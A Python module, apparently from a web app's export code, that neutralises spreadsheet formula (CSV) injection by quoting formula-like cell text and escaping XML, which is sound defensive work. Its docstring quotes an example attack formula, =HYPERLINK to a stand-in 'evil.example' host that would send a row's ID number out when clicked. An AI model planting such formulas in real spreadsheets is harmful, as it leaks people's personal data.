"""Cells as every file the product writes holds them: text stays text.

A cell whose text starts with = + - @ (or their full-width forms ＝ ＋ － ＠, which Chinese
input methods type), a tab, CR or LF is a formula to a spreadsheet: a company name such as
=HYPERLINK("http://evil.example/?"&B2) would send the row's ID number away when clicked
(OWASP, CSV injection). formula_like() is the one test for it. XLSX: every text is an explicit
string cell (an inline string, never <f>) in the text format "@", and a formula-like one also
carries Excel's quote prefix, so editing it keeps it text. CSV: a formula-like text is written
with a single quote before it, the OWASP way. Every export, template, error report and
enrollment list writes its cells through here (app/exports/sheets.py writes the files).
"""

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell import Cell

from app.completions.limits import MAX_CELL

# What a spreadsheet reads as the start of a formula, once NFKC has folded the full-width and
# small forms (＝ ﹦ ＋ ﹢ － ﹣ ＠ ﹫) into these.
_STARTS_FORMULA = frozenset("=+-@\t\r\n")
# Spaces a spreadsheet may pass over before it looks at the first character.
_LEADING_SPACES = " \u00a0\u3000"
# Characters XML 1.0 cannot hold: openpyxl refuses them with an error whose message is the
# whole cell, an ID number perhaps, and the download fails. They become U+FFFD, not nothing,
# so that "370102\x07..." stays visibly wrong instead of turning into a valid-looking ID.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# Escaped for XML; line breaks as references, which XML keeps as they are (a raw CR would be
# read back as LF) and which keep one row to one line of a part file.
_XML_ESCAPES = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", "\r": "&#13;", "\n": "&#10;"})
TEXT_FORMAT = "@"
QUOTE = "'"
# The cell formats (xf) of sheets.STYLES: text; text with the quote prefix; the header's.
TEXT, QUOTED, HEADER, HEADER_QUOTED = 1, 2, 3, 4


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take this text for a formula (or a DDE command)."""
    if not text:
        return False
    if text[0] in _STARTS_FORMULA:
        return True
    first = text.lstrip(_LEADING_SPACES)[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in _STARTS_FORMULA


def plain(value: Any) -> str | int:
    """A value as a cell shows it: whole numbers stay numbers, everything else is text
    (a date as 2026-05-01, a decimal without trailing zeros, nothing as "")."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return f"{value.normalize():f}"
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def csv_text(value: Any) -> str:
    """A CSV field: a formula-like text behind a single quote."""
    shown = plain(value)
    if isinstance(shown, int):
        return str(shown)
    return QUOTE + shown if formula_like(shown) else shown


def csv_lines(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text (CRLF line ends), every field through csv_text."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return out.getvalue()


def xml_text(text: str) -> str:
    # Cut at Excel's cell size: Excel calls a workbook with a longer cell damaged.
    return _NOT_IN_XML.sub("\ufffd", text)[:MAX_CELL]


def xlsx_cells(values: Sequence[Any], header: bool = False) -> str:
    """One row's cells as SpreadsheetML, in order (an empty one as <c/>, so each stays in its
    column): text as an inline string in the text format, with the quote prefix when it is
    formula-like; whole numbers as numbers."""
    found = []
    for value in values:
        shown = plain(value)
        if isinstance(shown, int):
            found.append(f"<c><v>{shown}</v></c>")
        elif shown == "":
            found.append("<c/>")
        else:
            style = (QUOTED if formula_like(shown) else TEXT) + (2 if header else 0)
            text = xml_text(shown).translate(_XML_ESCAPES)
            space = ' xml:space="preserve"' if text != text.strip() else ""
            found.append(f'<c s="{style}" t="inlineStr"><is><t{space}>{text}</t></is></c>')
    return "".join(found)


def put(cell: Cell, value: Any) -> Cell:
    """A cell of a workbook openpyxl builds cell by cell (the upload templates): text as
    text, as xlsx_cells writes it; other values (a date, a number) as they are, for the
    cell's own format to show."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    cell.value = xml_text(value)
    # After the value: openpyxl has just typed "=..." a formula and "#N/A" an error.
    cell.data_type, cell.number_format = "s", TEXT_FORMAT
    if formula_like(value):
        cell.quotePrefix = True
    return cell
